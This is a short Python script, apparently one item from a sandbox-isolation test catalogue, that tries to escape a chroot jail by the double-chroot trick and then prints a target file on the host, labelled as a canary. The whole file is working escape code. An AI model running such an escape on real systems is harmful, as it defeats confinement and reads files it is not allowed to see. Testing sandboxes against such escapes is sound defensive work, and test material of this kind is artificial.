# /// attack
# catalogue = "reading: files of the machine"
# layers = ["privileges", "view"]
# aim = "canary"
# ///
# Leaves its root directory by the old way of a second chroot.

# %%
import os

try:
    os.makedirs("below", exist_ok=True)
    os.chroot("below")
    for _ in range(60):
        os.chdir("..")
    os.chroot(".")
except OSError as error:
    print(error)
try:
    print(open(TARGET["host"]).read())
except OSError as error:
    print(error)
